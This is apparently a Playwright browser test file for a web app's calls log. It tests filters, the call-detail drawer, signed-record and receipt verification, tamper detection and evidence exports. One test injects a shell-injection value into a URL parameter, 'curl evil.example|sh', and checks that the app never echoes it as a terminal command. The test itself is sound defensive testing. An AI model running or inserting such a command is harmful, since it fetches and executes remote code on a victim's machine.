// /app/calls as people use it: what a tier or a role has not, the filters, one call in the drawer, medical calls, and the log as a file.
import type { Page } from 'playwright-core'
import { describe, expect, it } from 'vitest'
import { changeAnswers, pathsOf, opened, saved, showRole } from '../support/browser/acts.ts'
import { ownerOn, pageOf, service } from '../support/browser/browser.ts'
import { open, settled } from '../support/browser/pages.ts'
import { MOST_SHIFT } from '../support/browser/sights.ts'
import { shiftOf, refusedWith } from '../support/browser/visitor.ts'

const { owner } = service.filled

const record = (page: Page) => page.getByRole('region', { name: 'Signed record' })

const content = (page: Page) => page.getByRole('region', { name: 'Request and answer' })

const openFirst = async (page: Page): Promise<void> => {
  await page.locator('[data-row] a').first().click()
}

describe('the calls', () => {
  it('are the last fifty in the tier free: nothing is requested that it lacks, and the log is exported', async () => {
    const page = await pageOf(ownerOn('free'))
    const refused: string[] = []
    page.on('response', (response) => response.status() === 403 && refused.push(response.url()))
    await page.goto('/app/calls')
    await expect.poll(() => page.locator('#lead').innerText()).toContain('Your last 50 calls of 7 days')
    await settled(page)
    expect(refused).toEqual([])
    await expect.poll(() => page.getByRole('alert').count()).toBe(0)
    await page.getByRole('link', { name: 'Evidence file' }).click()
    const lines = (await saved(page, 'Make the evidence file')).text.trim().split('\n')
    expect(JSON.parse(lines.at(-1) ?? '')).toMatchObject({ object: 'audit_export.end' })
    await expect
      .poll(() => page.getByRole('status').filter({ hasText: 'Saved' }).innerText())
      .toMatch(/Complete: [\d,]+ entries, none missing/)
  })

  it('come with their signed record in every tier, which is checked here', async () => {
    const page = await pageOf(owner)
    await changeAnswers<{ organisations: object[] }>(page, '**/api/auth/me', (user) => ({
      ...user,
      organisations: user.organisations.map((one) => ({ ...one, tier: 'free' })),
    }))
    await open(page, '/app/calls')
    await openFirst(page)
    await expect.poll(() => record(page).innerText()).toContain('Development key: unchanged')
    await changeAnswers(page, '**/v1/attestation/keys', (keys) => ({ ...keys, note: undefined }))
    await page.reload()
    await expect.poll(() => record(page).innerText()).toContain('Signature valid.')
    await expect.poll(() => page.getByRole('dialog').getByRole('button', { name: 'Read request' }).count()).toBe(0)
  })

  it('waits for the names of its keys, so that nothing jumps once they are there', async () => {
    const page = await pageOf(owner)
    const named = Promise.withResolvers<void>()
    await page.route('**/api/keys?*', async (route) => {
      await named.promise
      await route.continue()
    })
    const trail = page.waitForResponse((response) => response.url().includes('/api/calls'))
    await page.goto('/app/calls')
    await (await trail).finished()
    await expect.poll(() => page.locator('[aria-busy=true]').count()).toBeGreaterThan(0)
    named.resolve()
    await settled(page)
    await expect.poll(() => page.getByRole('table', { name: 'Calls' }).innerText()).not.toMatch(/key_[\da-f]{8}-/)
    expect(await shiftOf(page)).toBeLessThan(MOST_SHIFT)
  })

  it('shows a colleague the same calls by its address, and goes back by the button of the browser', async () => {
    const page = await open(owner, '/app/calls')
    const outcomes = page.getByRole('group', { name: 'Outcome' })
    await outcomes.getByRole('link', { name: /^Blocked/ }).click()
    await expect.poll(() => new URL(page.url()).search).toBe('?outcome=blocked')
    await settled(page)
    await expect.poll(() => outcomesOf(page)).toEqual(new Set(['Blocked']))
    await page.goBack()
    await settled(page)
    await expect.poll(() => outcomesOf(page).then((all) => all.has('Passed'))).toBe(true)
    await expect.poll(() => outcomes.locator('[aria-current=true]').innerText()).toMatch(/^All/)
  })

  it('opens the call of a record by its id, and no other for half of one', async () => {
    const page = await open(owner, '/app/calls')
    const address = (await page.locator('[data-row] a').last().getAttribute('href')) ?? ''
    const id = new URL(address, page.url()).searchParams.get('id') ?? ''
    await page.getByRole('searchbox').fill(id.slice(0, -1))
    await page.getByRole('searchbox').press('Enter')
    await page.getByText('No call like this in these days').waitFor()
    await page.getByRole('searchbox').fill(id)
    await page.getByRole('searchbox').press('Enter')
    await expect.poll(() => record(page).innerText()).toContain('Development key: unchanged')
  })

  it('opens a call with its record, proofs and cost, checked here, and gives the focus back', async () => {
    const page = await open(owner, '/app/calls?outcome=passed&use_case=triage-notes')
    await openFirst(page)
    const drawer = page.getByRole('dialog')
    await expect.poll(() => record(page).innerText()).toContain('Development key: unchanged')
    expect(new URL(page.url()).searchParams.get('id')).toMatch(/^[0-9a-f-]{36}$/)
    for (const width of [820, 1440]) {
      await page.setViewportSize({ width, height: 900 })
      await expect.poll(() => drawer.boundingBox()).toMatchObject({ x: width - 608, width: 608 })
    }
    for (const part of ['Cost', 'signed as', 'In the public log']) await drawer.getByText(part).first().waitFor()
    await expect.poll(() => drawer.getByRole('list', { name: 'What happened' }).innerText()).toMatch(/pass[^]*Answered/)
    await page.keyboard.press('Escape')
    await expect.poll(() => new URL(page.url()).search).toBe('?outcome=passed&use_case=triage-notes')
    await page.locator('[data-row] a:focus').waitFor()
  })

  it('leads from one call to the older one and back', async () => {
    const page = await open(owner, '/app/calls?outcome=blocked')
    await openFirst(page)
    const drawer = page.getByRole('dialog')
    await expect
      .poll(() => drawer.innerText())
      .toMatch(/1 of \d+[^]*Cost\s+–[^]*Refused by the rule “[^”]+”\. Nothing was sent/)
    await drawer.getByRole('button', { name: 'Newer call' }).press('Enter')
    await drawer.getByRole('button', { name: 'Older call' }).click()
    await expect.poll(() => drawer.innerText()).toMatch(/2 of \d+/)
    await expect.poll(() => record(page).innerText()).toContain('signed as BLOCKED')
    await drawer.getByRole('button', { name: 'Newer call' }).click()
    await expect.poll(() => drawer.innerText()).toMatch(/1 of \d+/)
  })

  it('draws its frame before the record is there, and moves nothing once it is', async () => {
    const page = await pageOf(owner)
    const held = Promise.withResolvers<void>()
    await page.route(/\/api\/calls\/[0-9a-f-]{36}$/, async (route) => {
      await held.promise
      await route.continue()
    })
    await open(page, '/app/calls?outcome=passed&use_case=triage-notes')
    await openFirst(page)
    const drawer = page.getByRole('dialog')
    const facts = drawer.locator('dt')
    await expect
      .poll(async () => (await facts.allInnerTexts()).slice(0, 4))
      .toEqual(['Outcome', 'Cost', 'Tokens', 'Took'])
    await expect.poll(() => record(page).innerText()).toContain('Checking in this browser')
    await drawer.getByText('In the public log').waitFor()
    const places = async () => {
      const parts = (await drawer.locator('section, ol').all()).slice(0, 3)
      return Promise.all(parts.map(async (part) => (await part.boundingBox())?.y))
    }
    const before = await places()
    held.resolve()
    await expect.poll(() => record(page).innerText()).toContain('Development key: unchanged')
    expect(await places()).toEqual(before)
    await page.reload()
    await expect.poll(() => record(page).innerText()).toContain('Development key: unchanged')
    expect(await shiftOf(page)).toBeLessThan(MOST_SHIFT)
  })

  it('stands beside the list where there is room, which stays usable, and closes by Escape from either', async () => {
    const page = await open(owner, '/app/calls?outcome=blocked')
    const drawer = page.getByRole('dialog')
    await openFirst(page)
    await expect.poll(() => page.locator('dialog:modal').count()).toBe(0)
    await page.locator('[data-row] a').nth(1).click()
    await expect.poll(() => drawer.innerText()).toMatch(/2 of \d+/)
    await page.keyboard.press('j')
    await expect.poll(() => drawer.innerText()).toMatch(/3 of \d+/)
    await page.keyboard.press('k')
    await expect.poll(() => drawer.innerText()).toMatch(/2 of \d+/)
    await drawer
      .locator('[aria-keyshortcuts=J]')
      .and(drawer.getByRole('button', { name: 'Older call' }))
      .waitFor()
    await page.getByRole('searchbox').focus()
    await page.keyboard.press('j')
    await expect.poll(() => drawer.innerText()).toMatch(/2 of \d+/)
    await page.keyboard.press('Escape')
    await drawer.waitFor({ state: 'detached' })
    await expect.poll(() => page.locator('[data-row]').nth(1).locator('a:focus').count()).toBe(1)
  })

  it('stands in front of the list where there is none', async () => {
    const page = await pageOf(owner, { width: 820 })
    await open(page, '/app/calls?outcome=blocked')
    await openFirst(page)
    await page.locator('dialog:modal').waitFor()
    await page.getByRole('button', { name: 'Older call' }).press('Enter')
    await page.getByRole('button', { name: 'Older call' }).and(page.locator(':focus')).waitFor()
    await page.keyboard.press('Escape')
    await expect.poll(() => page.locator('[data-row]').nth(1).locator('a:focus').count()).toBe(1)
  })

  it('hands its record to the verifier, and nothing else that its tab keeps', async () => {
    const page = await open(owner, '/app/calls?outcome=passed')
    await page.evaluate("sessionStorage.setItem('try-key:live', 'of this tab')")
    await openFirst(page)
    const verifier = await opened(page, 'Open in Verify')
    await expect.poll(() => verifier.locator('main input').first().inputValue()).toMatch(/^call-[0-9a-f-]{36}\.json/)
    await verifier.getByRole('heading', { name: 'Development key' }).waitFor()
    await expect.poll(() => verifier.evaluate('sessionStorage.length')).toBe(0)
    expect(page.url()).toMatch(/\/app\/calls\?outcome=passed/)
    await expect.poll(() => page.evaluate("sessionStorage.getItem('to-verify')")).toBeNull()
    await expect.poll(() => page.evaluate("sessionStorage.getItem('try-key:live')")).toBe('of this tab')
  })

  it('saves the evidence of a narrowed list, which the verifier calls a selection', async () => {
    const page = await open(owner, '/app/calls?outcome=blocked')
    const { text } = await saved(page, 'Evidence of this list')
    expect(JSON.parse(text.trim().split('\n').at(-1) ?? '')).toMatchObject({ object: 'selection_export.end' })
    await page.getByText(/\d+ calls?, with proofs\./).waitFor()
    const verifier = await opened(page, 'Open in Verify')
    await verifier.getByText('Whether other calls match the filter.').waitFor()
    // The line is of this list alone.
    await page
      .getByRole('link', { name: /^Passed/ })
      .first()
      .click()
    await expect.poll(() => page.locator('#lead').innerText()).not.toContain('Saved')
  })

  it('finds that a record was changed on its way', async () => {
    const page = await pageOf(owner)
    await page.route(/\/api\/calls\/[0-9a-f-]{36}$/, async (route) => {
      const response = await route.fetch({ maxRetries: 2 })
      const body = (await response.text()).replace('"outcome":"ALLOWED"', '"outcome":"BLOCKED"')
      await route.fulfill({ response, body })
    })
    await open(page, '/app/calls?outcome=passed&use_case=triage-notes')
    await openFirst(page)
    await expect.poll(() => record(page).getByRole('status').innerText()).toContain('Not valid')
  })

  it('contradicts a trail that says otherwise of a call than its signed record', async () => {
    const page = await pageOf(owner)
    await changeAnswers<{ data: object[] }>(page, /\/api\/calls\?/, (body) => ({
      ...body,
      data: body.data.map((entry) => ({ ...entry, model: 'another-model' })),
    }))
    await page.goto('/app/calls?outcome=passed&use_case=triage-notes')
    await openFirst(page)
    await expect.poll(() => record(page).getByRole('status').innerText()).toContain('Not valid')
    await expect.poll(() => record(page).innerText()).toContain('The list differs from what is signed: model.')
  })

  it('opens a call by its link, however long before the calls of the list it was', async () => {
    const page = await pageOf(owner)
    await page.goto('/app/calls?outcome=passed')
    await page.locator('[data-row] a').last().click()
    const drawer = page.getByRole('dialog')
    const known = drawer.getByRole('region', { name: 'Details' })
    const told = await known.innerText()
    expect(told).toMatch(/Answered by\s+\S/)
    // As a colleague has it a year later: the list has come to other days.
    await page.goto(`${page.url()}&from=2024-01-01&to=2024-01-02`)
    await expect.poll(() => known.innerText()).toBe(told)
    await drawer.getByRole('button', { name: 'Close' }).click()
    await expect.poll(() => new URL(page.url()).search).toBe('?outcome=passed&from=2024-01-01&to=2024-01-02')
  })

  it('says by the record alone that content was not kept, and asks for none', async () => {
    const page = await pageOf(owner)
    const asked = pathsOf(page)
    await open(page, '/app/calls')
    await openFirst(page)
    await expect.poll(() => content(page).innerText()).toContain('Not kept. Change that in Settings.')
    await expect.poll(() => content(page).getByRole('button').count()).toBe(0)
    expect(asked.filter((path) => path.includes('/compliance/content/'))).toEqual([])
  })

  it('reads kept content only once somebody asks for it', async () => {
    const page = await pageOf(owner, { provoked: refusedWith(404) })
    const asked = pathsOf(page)
    await changeAnswers<{ settlement: { content: object } }>(page, /\/api\/calls\/[0-9a-f-]{36}$/, (body) => ({
      ...body,
      settlement: { ...body.settlement, content: { ...body.settlement.content, content: { sha256: '', bytes: 1 } } },
    }))
    await open(page, '/app/calls?outcome=passed')
    await openFirst(page)
    const read = page.getByRole('button', { name: 'Read request and answer' })
    await read.waitFor()
    expect(asked.filter((path) => path.includes('/compliance/content/'))).toEqual([])
    await read.click()
    await expect.poll(() => content(page).innerText()).toContain('This call has no stored content')
  })

  it('look on by themselves where a page of the log had nothing, and say what could not be read', async () => {
    const page = await pageOf(owner)
    await page.route(/\/api\/calls\?(?!.*cursor)/, (route) =>
      route.fulfill({
        json: { object: 'list', data: [], has_more: true, next_cursor: '900', unreadable_entries: 2 },
      }),
    )
    await page.goto('/app/calls')
    await expect.poll(() => page.locator('main').innerText()).toContain('2 entries of the log cannot be read')
    await page.locator('[data-row] a').first().waitFor()
  })

  it('says of a file without its last line that it is not whole', async () => {
    const page = await pageOf(owner)
    await page.route(/\/api\/compliance\/audit-logs/, (route) =>
      route.fulfill({ body: '{"object":"audit_export.head"}\n', contentType: 'application/x-ndjson' }),
    )
    await page.goto('/app/exports')
    await page.getByRole('button', { name: 'Make the evidence file' }).click()
    await expect
      .poll(() => page.getByRole('status').filter({ hasText: 'Saved' }).innerText())
      .toContain('it is not whole')
  })

  it('puts into no line for a terminal what somebody wrote into the address', async () => {
    const page = await pageOf(owner)
    await page.goto(`/app/calls?id=${encodeURIComponent('x";curl evil.example|sh;"')}`)
    await expect.poll(() => page.getByRole('dialog').innerText()).toContain('No call has this id')
    await expect.poll(() => page.getByRole('dialog').locator('pre').count()).toBe(0)
    await expect.poll(() => page.getByRole('dialog').getByRole('button', { name: 'Read request' }).count()).toBe(0)
  })

  it('goes on with the next part where these days have more leaves than one file', async () => {
    const page = await pageOf(owner)
    const cursors: (string | null)[] = []
    await page.route(/\/api\/compliance\/audit-logs/, (route) => {
      const cursor = new URL(route.request().url()).searchParams.get('cursor')
      cursors.push(cursor)
      const end = {
        object: 'audit_export.end',
        entries: 3,
        withheld: 0,
        next_cursor: cursor === null ? '1000000' : null,
      }
      return route.fulfill({ body: `${JSON.stringify(end)}\n`, contentType: 'application/x-ndjson' })
    })
    await page.goto('/app/exports')
    await page.getByRole('button', { name: 'Make the evidence file' }).click()
    await page.getByRole('button', { name: 'Make the next part' }).click()
    await expect.poll(() => page.getByRole('button', { name: 'Make the next part' }).count()).toBe(0)
    expect(cursors).toEqual([null, '1000000'])
  })

  it('shows the key that the address narrows the calls down to, where its name cannot be had', async () => {
    const page = await pageOf(owner)
    await page.route('**/api/keys?*', (route) => route.abort())
    const key = 'key_0198f3a0-5b7e-7c41-9d1e-2f6a8c0b4d11'
    await open(page, `/app/calls?key=${key}`)
    await page.getByRole('link', { name: 'remove the filter Key' }).getByText(key).waitFor()
  })
})

describe('an organisation without calls', () => {
  it('has nothing to narrow, and can still choose other days', async () => {
    const page = await open(service.owners['healthcare'] ?? owner, '/app/calls')
    await expect.poll(() => page.locator('main h2').allInnerTexts()).toEqual(['No call in the last 30 days'])
    await expect.poll(() => page.locator('search, [role=search], [aria-label=Outcome]').count()).toBe(0)
    await page.getByRole('button', { name: 'Last 30 days' }).click()
    await page.getByRole('link', { name: 'Last 7 days' }).click()
    await page.getByRole('heading', { name: 'No call in these days' }).waitFor()
  })
})

const outcomesOf = async (page: Page): Promise<ReadonlySet<string>> =>
  new Set((await page.locator('[data-row] .outcome').allTextContents()).map((text) => text.trim()))

describe('medical calls', () => {
  it('are what a clinician sees, with their proofs, by the addresses that receipts had', async () => {
    const page = await pageOf(owner)
    await showRole(page, 'clinician')
    const asked = pathsOf(page)
    await page.goto('/app/receipts')
    await expect.poll(() => new URL(page.url()).search).toBe('?medical=yes')
    await openFirst(page)
    await expect.poll(() => record(page).innerText()).toContain('Development key: unchanged')
    expect(asked.filter((path) => path.startsWith('/api/calls'))).toEqual([])
  })

  it('are a filter of the calls, and saved byte for byte as they were answered', async () => {
    const page = await open(owner, '/app/calls')
    await page.getByRole('button', { name: 'Filter' }).click()
    await page.getByRole('link', { name: 'Only calls of medical use cases' }).click()
    await openFirst(page)
    await expect.poll(() => record(page).innerText()).toContain('Development key: unchanged')
    const { name, text } = await saved(page, 'Save as JSON')
    const id = new URL(page.url()).searchParams.get('id')
    expect(name).toBe(`receipt-${id}.json`)
    expect(JSON.parse(text)).toMatchObject({ object: 'medical_receipt', id })
  })

  it('are not valid where a genuine one of another call comes in their place', async () => {
    const page = await pageOf(owner)
    await open(page, '/app/calls?medical=yes')
    const links = page.locator('[data-row] a')
    const other = new URL((await links.nth(1).getAttribute('href')) ?? '', page.url()).searchParams.get('id')
    await page.route(/\/api\/health\/receipts\/[0-9a-f-]{36}$/, async (route) => {
      const url = new URL(`/api/health/receipts/${other}`, page.url()).href
      await route.fulfill({ response: await route.fetch({ url, maxRetries: 2 }) })
    })
    await openFirst(page)
    await expect.poll(() => record(page).getByRole('status').innerText()).toContain('Not valid')
    await expect.poll(() => record(page).innerText()).toContain('It is of another call than the one asked for.')
  })

  it('say so where what came is no receipt, instead of showing anything', async () => {
    const page = await pageOf(owner, { provoked: /^error: Cannot read properties/ })
    await page.route(/\/api\/health\/receipts\/[0-9a-f-]{36}$/, (route) => route.fulfill({ json: { valid: true } }))
    await page.goto('/app/calls?medical=yes')
    await openFirst(page)
    await page.getByRole('alert').waitFor()
    await expect.poll(() => page.getByText(/^(?:Signature valid|Development key)/).count()).toBe(0)
  })

  it('are exported as a file that is said to be whole', async () => {
    const page = await open(owner, '/app/calls?medical=yes')
    await page.getByRole('link', { name: 'Evidence file' }).click()
    expect((await saved(page, 'Make a CSV, without proofs')).name).toMatch(
      /^invented-data-countersign-medical-receipts-.*\.csv$/,
    )
    await expect
      .poll(() => page.getByRole('status').filter({ hasText: 'Saved' }).innerText())
      .toContain('Complete: it arrived whole.')
  })

  it('print with their source, the hash of their leaf and exact times, and without buttons', async () => {
    const page = await open(owner, '/app/calls?medical=yes')
    await openFirst(page)
    await record(page).waitFor()
    await page.emulateMedia({ media: 'print' })
    // As a browser does before it prints.
    await page.evaluate("dispatchEvent(new Event('beforeprint'))")
    await expect.poll(() => page.locator('.paper-head').innerText()).toMatch(/from http.*\/app\/calls\?medical=yes&id=/)
    await expect.poll(() => page.getByRole('dialog').locator('.only-print').innerText()).toMatch(/[0-9a-f]{64}/)
    await expect.poll(() => page.getByRole('dialog').getByRole('button').count()).toBe(0)
    await expect.poll(() => page.locator('.side').isVisible()).toBe(false)
  })
})
